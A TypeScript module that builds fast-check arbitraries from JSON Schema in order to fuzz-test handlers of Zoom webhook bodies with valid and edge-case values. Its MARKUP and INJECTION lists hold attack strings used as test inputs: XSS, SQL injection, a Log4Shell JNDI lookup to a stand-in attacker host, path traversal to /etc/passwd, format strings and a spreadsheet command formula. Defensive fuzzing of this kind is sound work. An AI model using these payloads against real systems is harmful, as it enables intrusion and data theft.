/**
 * JSON Schema -> fast-check arbitrary.
 *
 * Walks the 2020-12 subset the specs use (type, properties, required, items, enum, const, format, anyOf/oneOf,
 * allOf, minimum/maximum, lengths, additionalProperties, default, pattern) and builds an arbitrary of JSON trees
 * under a Policy: which optional fields appear, how long arrays are, whether leaves may take edge values and
 * whether open objects get unknown properties. Edge values are wrapped in `Edge` so that the delivery can say
 * which edge it carries and where (see `finalizeTree`).
 *
 * The arbitraries do not depend on the run: values the run's world gives (ids, names, times) are drawn as
 * `WorldRef`s and resolved by `finalizeTree` against the run's world. So a builder, and every node arbitrary it
 * compiles, is made once per process and policy (`sharedBuilder`) and serves every run.
 *
 * Every arbitrary is built from fast-check combinators (record, array, oneof, constantFrom, integer, map...), so
 * shrinking works everywhere. Existing schema-to-arbitrary libraries were considered: json-schema-fast-check is
 * archived, targets fast-check 1-2 and covers a smaller subset, and none knows Zoom's values or our edges.
 */
import fc from 'fast-check';
import type { JsonSchema } from '../specs/json-schema.js';
import type { EdgeKindId } from './edge-kinds.js';
import { drawRecordOf } from './fast-draw.js';
import type { JsonTree } from './json-text.js';
import { pointer, type PathPart } from './schema-walk.js';
import { clamp, fitLength, fitsLength } from './value-bounds.js';
import type { World } from './world.js';
import { WorldRef, worldTime } from './world-refs.js';
import { fieldRole, ID_ROLES, primaryType, realisticArbitrary, USER_TEXT_ROLES, type FieldContext, type FieldRole } from './zoom-values.js';

/** A generated value that carries an edge: unwrapped, and recorded with its path, by `finalizeTree`. */
export class Edge {
  constructor(
    readonly value: GenTree,
    readonly kind: EdgeKindId,
    /** Whether Zoom itself can plausibly send this value in this field. */
    readonly zoom: boolean,
  ) {}
}

/** A generated tree: JSON, edges, and references to the run's world (leaves, resolved by `finalizeTree`). */
export type GenTree = null | boolean | number | bigint | string | Edge | WorldRef | GenTree[] | { [key: string]: GenTree };

export interface EdgeInstance {
  kind: EdgeKindId;
  /** JSON pointer of the edged value (`` for the whole body). */
  path: string;
  zoom: boolean;
}

export interface Policy {
  /** Optional properties: a random subset, none, or all. */
  optional: 'some' | 'none' | 'all';
  /** Array lengths: a few items, empty where allowed, or at least one item. */
  arrays: 'some' | 'empty' | 'nonempty';
  /** Probability that an eligible leaf takes an edge value (0 for none). */
  leafEdges: number;
  /** Add unknown properties to open objects. */
  extraProperties: boolean;
  /** Leaf edges only of the kinds Zoom itself sends (see EDGE_KINDS' `zoom`). */
  zoomOnly?: boolean;
}

export const VALID_POLICY: Policy = { optional: 'some', arrays: 'some', leafEdges: 0, extraProperties: false };

interface Walk extends FieldContext {
  /** The source example's value at this place, to take key order from. */
  example: unknown;
}

const MAX_SAFE = Number.MAX_SAFE_INTEGER;
/** The fields of every webhook body: `{"event", "payload", "event_ts"}` in the order Zoom writes them. */
const ENVELOPE = ['event', 'payload', 'event_ts'];
const INT64_MAX = 9223372036854775807n;
const ABOVE_SAFE = 9007199254740993n;

const EMOJI = ['🎉 Team offsite 🚀', '👩🏽‍💻 Pair programming', '🇯🇵 東京 sync 🍣', '𝕄𝕒𝕥𝕙 𝕔𝕝𝕒𝕤𝕤'];
const COMBINING = ['Zoe\u0308 Ame\u0301lie', 'Z\u0334\u0321\u031ba\u0336l\u0337g\u0338o\u0335', 'Ngu\u0303ye\u0302\u0303n'];
const RTL = ['اجتماع الفريق', 'שלום \u202eevil\u202c', '\u200fمرحبا بكم'];
const ZERO_WIDTH = ['Weekly\u200bsync', '\ufeffTopic', 'Jo\u200dhn', 'Design\u2060review'];
const CONTROL = ['\u0000', 'line\nbreak\ttab\r', '\u001b[31mred\u001b[0m', 'bell\u0007\u0008'];
const MARKUP = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', '</td></tr></table><h1>hi</h1>'];
const INJECTION = ["'; DROP TABLE meetings; --", '{{7*7}}${7*7}', '${jndi:ldap://attacker.invalid/a}', '../../../../etc/passwd', '%s%s%s%n', "=cmd|' /C calc'!A0"];
const DATE_TIME_EDGES = ['1970-01-01T00:00:00Z', '2099-12-31T23:59:59Z', '2026-03-14T10:15:00.123456Z', '2026-03-14T10:15:00+05:30', '2026-03-14T10:15:00-08:00'];
const DATE_EDGES = ['1970-01-01', '2099-12-31', '2024-02-29'];
const EMAIL_EDGES = ['first.last+zoom@sub.example.co.uk', `${'a'.repeat(64)}@example.com`, "o'connor@example.org", 'x@example.io'];

/**
 * Builds arbitraries for one policy; compiled node arbitraries are cached per schema object (weakly: a spec a
 * long-lived process drops takes its arbitraries with it).
 */
export class ArbitraryBuilder {
  private readonly cache = new WeakMap<JsonSchema, Map<string, fc.Arbitrary<GenTree>>>();
  /** Whether a node's arbitrary has a leaf that was given edges (under this policy), anywhere below it. */
  private readonly leafEdged = new WeakMap<fc.Arbitrary<GenTree>, boolean>();
  /** For each node being built, innermost last: whether a leaf below it was given edges so far. */
  private readonly building: boolean[] = [];

  constructor(private readonly policy: Policy) {}

  /**
   * The arbitrary of a whole webhook body. `event` pins the `event` field; `eventTs` provides `event_ts`.
   * At the root, keys follow Zoom's order (`event`, `payload`, `event_ts`); below, the source example's order.
   */
  body(schema: JsonSchema, event: string, example?: unknown): fc.Arbitrary<GenTree> {
    return this.node(schema, { name: '', parent: undefined, path: [], event, example });
  }

  private node(schema: JsonSchema, walk: Walk): fc.Arbitrary<GenTree> {
    // Cache by schema object and by what the walk contributes (event-dependent roles and root pinning).
    const key = `${walk.event}|${walk.parent ?? ''}|${walk.name}|${walk.path.length === 0 ? 'root' : walk.path.length === 1 ? 'top' : ''}`;
    let bySchema = this.cache.get(schema);
    if (!bySchema) this.cache.set(schema, (bySchema = new Map()));
    let arbitrary = bySchema.get(key);
    if (!arbitrary) {
      this.building.push(false);
      let edged = false;
      try {
        arbitrary = this.build(schema, walk);
      } finally {
        edged = this.building.pop()!;
      }
      this.leafEdged.set(arbitrary, edged);
      bySchema.set(key, arbitrary);
    }
    if (this.leafEdged.get(arbitrary)) this.markLeafEdge();
    return arbitrary;
  }

  /**
   * Whether values of a body arbitrary of this builder can carry a leaf edge: some leaf of its schema was given edges
   * (none where every leaf is an enum, a const, a pattern, a format or a range without edge values).
   */
  canCarryLeafEdge(body: fc.Arbitrary<GenTree>): boolean {
    return this.leafEdged.get(body) === true;
  }

  private markLeafEdge(): void {
    if (this.building.length > 0) this.building[this.building.length - 1] = true;
  }

  private build(schema: JsonSchema, walk: Walk): fc.Arbitrary<GenTree> {
    if (walk.path.length === 1 && walk.name === 'event') return fc.constant(walk.event);
    if (walk.path.length === 1 && walk.name === 'event_ts' && isNumeric(schema)) {
      // Unbiased: a biased integer clusters at the window's edges, so timestamps would collide and bunch up.
      return fc.noBias(worldTime('event-ts'));
    }
    if (schema.const !== undefined) return fc.constant(schema.const as GenTree);
    if (schema.enum && schema.enum.length > 0) return fc.constantFrom(...(schema.enum as GenTree[]));
    const alternatives = schema.anyOf ?? schema.oneOf;
    if (alternatives && alternatives.length > 0) {
      const { anyOf: _anyOf, oneOf: _oneOf, ...base } = schema;
      return fc.oneof(...alternatives.map((alternative) => this.node(mergeSchemas(base, alternative), walk)));
    }
    if (schema.allOf && schema.allOf.length > 0) {
      const { allOf, ...base } = schema;
      return this.node(allOf.reduce(mergeSchemas, base), walk);
    }
    const type = schemaType(schema);
    const nullable = (Array.isArray(schema.type) && schema.type.includes('null')) || (schema as { nullable?: boolean }).nullable === true;
    const arbitrary = this.typed(type, schema, walk);
    return nullable && type !== 'null' ? fc.oneof({ weight: 9, arbitrary }, { weight: 1, arbitrary: fc.constant(null) }) : arbitrary;
  }

  private typed(type: string, schema: JsonSchema, walk: Walk): fc.Arbitrary<GenTree> {
    switch (type) {
      case 'object':
        return this.object(schema, walk);
      case 'array':
        return this.array(schema, walk);
      case 'string':
        return this.withLeafEdges(this.string(schema, walk), () => leafEdges(schema, 'string', fieldRole(walk, schema), this.policy.zoomOnly === true));
      case 'integer':
      case 'number':
        return this.withLeafEdges(this.number(type, schema, walk), () => leafEdges(schema, type, fieldRole(walk, schema), this.policy.zoomOnly === true));
      case 'boolean':
        return fc.boolean();
      case 'null':
        return fc.constant(null);
      default:
        return fc.string({ maxLength: 8 });
    }
  }

  private withLeafEdges(valid: fc.Arbitrary<GenTree>, edges: () => fc.Arbitrary<Edge> | undefined): fc.Arbitrary<GenTree> {
    if (this.policy.leafEdges <= 0) return valid;
    const edge = edges();
    if (!edge) return valid;
    this.markLeafEdge();
    const weight = Math.round(this.policy.leafEdges * 100);
    // Cross-shrinking lets an edged leaf shrink back to a plain value, so a failure shrinks to its fewest edges.
    return fc.oneof({ withCrossShrink: true }, { weight: 100 - weight, arbitrary: valid }, { weight, arbitrary: edge });
  }

  private object(schema: JsonSchema, walk: Walk): fc.Arbitrary<GenTree> {
    const properties = schema.properties ?? {};
    const required = new Set((schema.required ?? []).filter((name) => typeof name === 'string'));
    // Zoom always sends the envelope, even where a document forgets to mark it required (user.tsp_* events).
    if (walk.path.length === 0) for (const name of ENVELOPE) if (name in properties) required.add(name);
    const names = orderedKeys(Object.keys(properties), walk);
    const model: Record<string, fc.Arbitrary<GenTree>> = {};
    const exampleRecord = isRecord(walk.example) ? walk.example : undefined;
    for (const name of names) {
      model[name] = this.node(properties[name]!, {
        name,
        parent: walk.name || undefined,
        path: [...walk.path, name],
        event: walk.event,
        example: exampleRecord?.[name],
      });
    }
    // A name the schema requires but does not declare still has to be present.
    for (const name of required) if (!(name in model)) model[name] = fc.string({ maxLength: 8 });
    const keys = Object.keys(model);
    const requiredKeys =
      this.policy.optional === 'all' ? keys : this.policy.optional === 'none' ? keys.filter((name) => required.has(name)) : [...required];
    const recordModel = this.policy.optional === 'none' ? Object.fromEntries(requiredKeys.map((name) => [name, model[name]!])) : model;
    const record = fc.record(recordModel, { ...(this.policy.optional === 'none' ? {} : { requiredKeys }), noNullPrototype: true });
    // Samples draw it as fast-check does, key by key (fast-check takes the model's keys in Object.keys order).
    drawRecordOf(record, Object.keys(recordModel));
    const open = schema.additionalProperties === true || (schema.additionalProperties === undefined && keys.length === 0 && walk.path.length > 0);
    if (!this.policy.extraProperties || !(open || isSchemaObject(schema.additionalProperties))) return record;
    const extraValue = isSchemaObject(schema.additionalProperties)
      ? this.node(schema.additionalProperties, { ...walk, name: '*', path: [...walk.path, '*'], example: undefined })
      : unknownValue();
    const extras = fc.dictionary(fc.constantFrom('zc_new_field', 'zc_added_flag', 'zc_extra_list', 'zc_future_setting'), extraValue, {
      minKeys: 1,
      maxKeys: 3,
      noNullPrototype: true,
    });
    return fc.tuple(record, extras).map(([base, extra]) => new Edge({ ...(base as Record<string, GenTree>), ...extra }, 'object.unknown-properties', true));
  }

  private array(schema: JsonSchema, walk: Walk): fc.Arbitrary<GenTree> {
    const items = this.node(schema.items ?? { type: 'string' }, {
      name: walk.name,
      parent: walk.parent,
      path: [...walk.path, '[]'],
      event: walk.event,
      example: Array.isArray(walk.example) ? walk.example[0] : undefined,
    });
    const min = schema.minItems ?? 0;
    const max = Math.max(min, schema.maxItems ?? Number.MAX_SAFE_INTEGER);
    if (this.policy.arrays === 'empty' && min === 0) return fc.constant(new Edge([], 'array.empty', true));
    const lower = this.policy.arrays === 'nonempty' ? Math.max(1, min) : min;
    return fc.array(items, { minLength: Math.min(lower, max), maxLength: Math.min(max, Math.max(lower, 3)) });
  }

  private string(schema: JsonSchema, walk: Walk): fc.Arbitrary<GenTree> {
    const min = schema.minLength ?? 0;
    const max = schema.maxLength;
    if (schema.pattern) return patternString(schema.pattern, min, max);
    const role = fieldRole(walk, schema);
    const realistic = role ? (realisticArbitrary(role, schema) as fc.Arbitrary<string | WorldRef> | undefined) : undefined;
    const base = realistic ?? GENERIC_STRING;
    if (min === 0 && max === undefined) return base;
    const fit = { length: { min, max } };
    return base.map((value) => (value instanceof WorldRef ? value.within(fit) : fitLength(value, min, max)));
  }

  private number(type: 'integer' | 'number', schema: JsonSchema, walk: Walk): fc.Arbitrary<GenTree> {
    const { min, max } = numericRange(schema, type);
    const role = fieldRole(walk, schema);
    const realistic = role ? (realisticArbitrary(role, schema) as fc.Arbitrary<number | WorldRef> | undefined) : undefined;
    if (realistic) {
      const fit = { range: { min, max } };
      return realistic.map((value) => (value instanceof WorldRef ? value.within(fit) : clamp(value, min, max)));
    }
    if (type === 'integer') {
      const int64 = schema.format === 'int64';
      const low = Math.max(min ?? (int64 ? 1 : 0), -MAX_SAFE);
      const high = Math.min(max ?? low + (int64 ? 10_000_000_000_000 : 1000), MAX_SAFE);
      return fc.integer({ min: low, max: Math.max(low, high) });
    }
    const low = min ?? 0;
    const high = max ?? low + 1000;
    return fc.double({ min: low, max: high, noNaN: true, noDefaultInfinity: true }).map((value) => clamp(Math.round(value * 100) / 100, min, max));
  }
}

/** The builders of the process, one per policy: the arbitraries they compile hold no world, so they serve every run. */
const SHARED_BUILDERS = new Map<string, ArbitraryBuilder>();

/** The process's builder for a policy (made when first asked for). */
export function sharedBuilder(policy: Policy): ArbitraryBuilder {
  const key = JSON.stringify(policy);
  let builder = SHARED_BUILDERS.get(key);
  if (!builder) {
    builder = new ArbitraryBuilder(policy);
    SHARED_BUILDERS.set(key, builder);
  }
  return builder;
}

/** The JSON type a schema describes (first non-null type; inferred from keywords when `type` is absent). */
export function schemaType(schema: JsonSchema): string {
  const type = primaryType(schema);
  if (type) return type;
  if (schema.properties || schema.required || schema.additionalProperties !== undefined) return 'object';
  if (schema.items) return 'array';
  if (schema.minLength !== undefined || schema.maxLength !== undefined || schema.pattern || schema.format) return 'string';
  if (schema.minimum !== undefined || schema.maximum !== undefined) return 'number';
  return 'string';
}

function isNumeric(schema: JsonSchema): boolean {
  const type = primaryType(schema);
  return type === 'integer' || type === 'number';
}

/** Merges two schemas for allOf and for anyOf alternatives that inherit their parent's keywords. */
export function mergeSchemas(a: JsonSchema, b: JsonSchema): JsonSchema {
  const merged: JsonSchema = { ...a, ...b };
  if (a.properties || b.properties) merged.properties = { ...a.properties, ...b.properties };
  if (a.required || b.required) merged.required = [...new Set([...(a.required ?? []), ...(b.required ?? [])])];
  return merged;
}

export function numericRange(schema: JsonSchema, type: 'integer' | 'number'): { min: number | undefined; max: number | undefined } {
  const step = type === 'integer' ? 1 : Number.EPSILON;
  let min = schema.minimum;
  let max = schema.maximum;
  if (schema.exclusiveMinimum !== undefined) min = Math.max(min ?? -Infinity, schema.exclusiveMinimum + step);
  if (schema.exclusiveMaximum !== undefined) max = Math.min(max ?? Infinity, schema.exclusiveMaximum - step);
  if (type === 'integer') {
    if (min !== undefined) min = Math.ceil(min);
    if (max !== undefined) max = Math.floor(max);
  }
  if (schema.format === 'int32') {
    min = Math.max(min ?? -2147483648, -2147483648);
    max = Math.min(max ?? 2147483647, 2147483647);
  }
  return { min, max };
}

function orderedKeys(names: string[], walk: Walk): string[] {
  if (walk.path.length === 0 && names.includes('event') && names.includes('payload')) {
    const envelope = ENVELOPE.filter((name) => names.includes(name));
    return [...envelope, ...names.filter((name) => !envelope.includes(name))];
  }
  if (!isRecord(walk.example)) return names;
  const exampleOrder = Object.keys(walk.example).filter((name) => names.includes(name));
  return [...exampleOrder, ...names.filter((name) => !exampleOrder.includes(name))];
}

function isRecord(value: unknown): value is Record<string, unknown> {
  return value !== null && typeof value === 'object' && !Array.isArray(value);
}

function isSchemaObject(value: unknown): value is JsonSchema {
  return isRecord(value);
}

function unknownValue(): fc.Arbitrary<GenTree> {
  return fc.oneof(
    fc.constantFrom<GenTree>('enabled', 'v2', ''),
    fc.integer({ min: 0, max: 100 }),
    fc.boolean(),
    fc.constant<GenTree>({ nested: { level: 2 } }),
    fc.constant<GenTree>(['a', 'b']),
  );
}

/** The value of a string field nothing more is known about. */
const GENERIC_STRING = fc.string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789'), minLength: 1, maxLength: 16 });

/** Strings matching a pattern within lengths: made once per pattern and lengths (compiling the pattern's arbitrary is costly). */
const PATTERN_STRINGS = new Map<string, fc.Arbitrary<GenTree>>();
function patternString(pattern: string, min: number, max: number | undefined): fc.Arbitrary<GenTree> {
  const key = `${min}\u0000${max ?? ''}\u0000${pattern}`;
  let arbitrary = PATTERN_STRINGS.get(key);
  if (!arbitrary) {
    arbitrary = fc.stringMatching(new RegExp(pattern), { maxLength: max }).filter((value) => fitsLength(value, min, max));
    PATTERN_STRINGS.set(key, arbitrary);
  }
  return arbitrary;
}

/**
 * The edge values a leaf can take without breaking its schema, as one arbitrary (undefined when there is none).
 * They depend on the schema, the field's role and the flavor only: made once, shared by every run and policy.
 */
const LEAF_EDGES = new WeakMap<JsonSchema, Map<string, fc.Arbitrary<Edge> | undefined>>();
function leafEdges(schema: JsonSchema, type: 'string' | 'integer' | 'number', role: FieldRole | undefined, zoomOnly: boolean): fc.Arbitrary<Edge> | undefined {
  let byRole = LEAF_EDGES.get(schema);
  if (!byRole) LEAF_EDGES.set(schema, (byRole = new Map()));
  const key = `${type} ${role ?? ''} ${zoomOnly}`;
  if (byRole.has(key)) return byRole.get(key);
  const edges = type === 'string' ? stringEdges(schema, role, zoomOnly) : numberEdges(type, schema, role, zoomOnly);
  const arbitrary = edges.length > 0 ? fc.oneof(...edges) : undefined;
  byRole.set(key, arbitrary);
  return arbitrary;
}

function edgeValues(values: readonly GenTree[], kind: EdgeKindId, zoom: boolean): fc.Arbitrary<Edge> {
  return fc.constantFrom(...values).map((value) => new Edge(value, kind, zoom));
}

/** The edge values a string field can take without breaking its schema. */
function stringEdges(schema: JsonSchema, role: FieldRole | undefined, zoomOnly: boolean): fc.Arbitrary<Edge>[] {
  if (schema.enum || schema.const !== undefined || schema.pattern) return [];
  const min = schema.minLength ?? 0;
  const max = schema.maxLength;
  const fits = (values: string[]) => values.filter((value) => fitsLength(value, min, max));
  const edges: fc.Arbitrary<Edge>[] = [];
  const add = (values: string[], kind: EdgeKindId, zoom: boolean) => {
    if (zoomOnly && !zoom) return;
    const fitting = fits(values);
    if (fitting.length > 0) edges.push(edgeValues(fitting, kind, zoom));
  };
  if (role === 'date-time') add(DATE_TIME_EDGES, 'datetime.boundary', false);
  else if (role === 'date') add(DATE_EDGES, 'datetime.boundary', false);
  else if (role === 'email') add(EMAIL_EDGES, 'email.unusual', true);
  else if (schema.format && !['string', 'int'].includes(schema.format)) return edges;
  else {
    const typed = role !== undefined && USER_TEXT_ROLES.has(role);
    const identifying = role !== undefined && ID_ROLES.has(role);
    add([''], 'string.empty', typed);
    add(MARKUP, 'string.markup', typed);
    add(INJECTION, 'string.injection', typed);
    add(CONTROL, 'string.control-escaped', false);
    if (!identifying) {
      add(EMOJI, 'string.astral-emoji', typed);
      add(COMBINING, 'string.combining-marks', typed);
      add(RTL, 'string.rtl', typed);
      add(ZERO_WIDTH, 'string.zero-width', typed);
    }
    // Long: at the declared maximum (the documented limit, so plausible), or a few KB where none is declared.
    if (max !== undefined) {
      if (max >= Math.max(min, 32) && (typed || !zoomOnly)) edges.push(fc.constant(new Edge('L'.repeat(max), 'string.long', typed)));
    } else if (!zoomOnly) {
      edges.push(fc.integer({ min: 1000, max: 8000 }).map((length) => new Edge('Long text '.repeat(length / 10 + 1).slice(0, length), 'string.long', false)));
    }
  }
  return edges;
}

/** The edge values a numeric field can take without breaking its schema. */
function numberEdges(type: 'integer' | 'number', schema: JsonSchema, role: FieldRole | undefined, zoomOnly: boolean): fc.Arbitrary<Edge>[] {
  if (schema.enum || schema.const !== undefined) return [];
  const { min, max } = numericRange(schema, type);
  const within = (value: number | bigint) => (min === undefined || value >= min) && (max === undefined || value <= max);
  const identifying = role !== undefined && (ID_ROLES.has(role) || role === 'phone' || role === 'passcode' || role === 'timestamp-ms');
  const edges: fc.Arbitrary<Edge>[] = [];
  if (within(0) && !(zoomOnly && identifying)) edges.push(fc.constant(new Edge(0, 'number.zero', !identifying)));
  if (zoomOnly) return edges;
  if (min === undefined || min < 0) {
    const negative = min === undefined ? -1 : Math.max(min, -1);
    if (within(negative)) edges.push(fc.constantFrom(negative, min ?? -2147483648).map((value) => new Edge(value, 'number.negative', false)));
  }
  if (within(MAX_SAFE) && schema.format !== 'int32') edges.push(fc.constant(new Edge(MAX_SAFE, 'number.max-safe', false)));
  if (type === 'integer' && schema.format === 'int64') {
    if (within(ABOVE_SAFE)) edges.push(fc.constant(new Edge(ABOVE_SAFE, 'int64.above-safe', false)));
    if (within(INT64_MAX)) edges.push(fc.constant(new Edge(INT64_MAX, 'int64.max', false)));
  }
  return edges;
}

/**
 * Unwraps edges and records each with its JSON pointer, and resolves references to the world against the run's
 * world. The path is kept as a stack of parts and written out only where an edge is found: most nodes carry none.
 */
export function finalizeTree(tree: GenTree, world: World): { value: JsonTree; edges: EdgeInstance[] } {
  const edges: EdgeInstance[] = [];
  const parts: PathPart[] = [];
  const visit = (node: GenTree): JsonTree => {
    if (node instanceof Edge) {
      edges.push({ kind: node.kind, path: pointer(parts), zoom: node.zoom });
      return visit(node.value);
    }
    if (node === null || typeof node !== 'object') return node;
    if (node instanceof WorldRef) return node.resolve(world);
    if (Array.isArray(node)) {
      const out: JsonTree[] = new Array(node.length);
      for (let index = 0; index < node.length; index++) {
        parts.push(index);
        out[index] = visit(node[index]!);
        parts.pop();
      }
      return out;
    }
    const out: Record<string, JsonTree> = {};
    for (const key of Object.keys(node)) {
      parts.push(key);
      out[key] = visit(node[key]!);
      parts.pop();
    }
    return out;
  };
  const value = visit(tree);
  return { value, edges };
}

/** The edges a tree carries, in the order `finalizeTree` records them (without their paths, without a copy). */
export function edgesIn(tree: GenTree, found: { kind: string; zoom: boolean }[] = []): { kind: string; zoom: boolean }[] {
  if (tree instanceof Edge) {
    found.push({ kind: tree.kind, zoom: tree.zoom });
    return edgesIn(tree.value, found);
  }
  if (tree === null || typeof tree !== 'object' || tree instanceof WorldRef) return found;
  if (Array.isArray(tree)) {
    for (const item of tree) edgesIn(item, found);
    return found;
  }
  for (const key of Object.keys(tree)) edgesIn(tree[key]!, found);
  return found;
}

/** True when the tree holds at least one edge. */
export function hasEdge(tree: GenTree): boolean {
  if (tree instanceof Edge) return true;
  if (tree === null || typeof tree !== 'object' || tree instanceof WorldRef) return false;
  if (Array.isArray(tree)) return tree.some(hasEdge);
  for (const key in tree) if (hasEdge(tree[key]!)) return true;
  return false;
}
